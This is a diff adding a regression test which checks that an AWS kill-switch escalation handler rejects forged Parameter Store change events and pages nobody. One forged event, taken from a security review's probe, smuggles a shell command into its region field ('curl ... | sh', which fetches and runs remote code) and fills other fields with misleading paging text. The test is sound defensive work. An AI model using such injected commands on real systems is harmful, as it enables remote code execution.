@@ -219,4 +219,39 @@ describe('a change of the kill switch is told to L1 (production; decision 178)',
     expect(other).toMatchObject({ action: 'rejected', reason: expect.stringContaining('not of the kill switch') });
     expect(await inbox.read()).toEqual([]);
   });
+
+  // Review 12, R12-3: whoever may invoke escalate (PowerUserAccess may) handed it the switch's name with an account, a
+  // region, a time and an operation of their own: L1 paged five times with their text, and `;curl ...|sh` inside the
+  // page's CloudTrail command. Only a change of this account's and region's switch is EventBridge's to deliver.
+  it('refuses a Parameter Store Change handed to escalate directly with another account, another region, or text in its fields: nobody paged', async () => {
+    const account = await provisionAccount('production');
+    const inbox = await createEscalationInbox(account.clientConfig, account.topology, 'kill-switch-forged-inbox');
+    const fixture = JSON.parse(readFileSync(join(__dirname, '../../fixtures/events/parameter-store-change-update.json'), 'utf8')) as Record<string, unknown> & { detail: Record<string, unknown> };
+    const region = account.clientConfig.region;
+    const genuine = { ...fixture, account: account.accountId, region, detail: { ...fixture.detail, name: account.topology.killSwitch.name } };
+    const escalate = loadHandler<EscalationHandler>('escalate');
+    const since = await callCount();
+
+    const forged = [
+      // The review's probe, as sent.
+      { ...genuine, account: '111122223333', region: 'us-east-1;curl -s x.io/a|sh', time: 'now. Call the bridge: +1-555-0100', detail: { ...genuine.detail, operation: 'Update by SecOps - rotate keys now' } },
+      { ...genuine, account: '111122223333' },
+      { ...genuine, region: region === 'us-west-2' ? 'us-east-1' : 'us-west-2' },
+    ];
+    const answers = [];
+    for (const event of forged) answers.push(await escalate(event));
+    expect(answers.map((a) => a.action)).toEqual(['rejected', 'rejected', 'rejected']);
+    expect(answers.map((a) => a.delivered)).toEqual([[], [], []]);
+    expect(answers[0]?.reason).toMatch(/region|time/);
+    expect(answers[1]?.reason).toContain(`from account 111122223333, ${region}: the kill switch ${account.topology.killSwitch.name} this function watches is in account ${account.accountId}, ${region}`);
+    expect(answers[2]?.reason).toContain(`this function watches is in account ${account.accountId}, ${region}`);
+    // Nothing published, nothing written: no call but reads (STS's account, before the comparison).
+    expect(mutations(await callsSince(account, since))).toEqual([]);
+    expect(await inbox.read()).toEqual([]);
+
+    // The genuine change is still told, once, with its command built from the deployment's region.
+    expect(await escalate(genuine)).toMatchObject({ action: 'announced', delivered: [{ level: 1, via: 'chat+email' }] });
+    const email = (await inbox.read()).find((m) => m.channel === 'email');
+    expect(email?.message).toContain(`aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue=PutParameter --region ${region}`);
+  });
 });
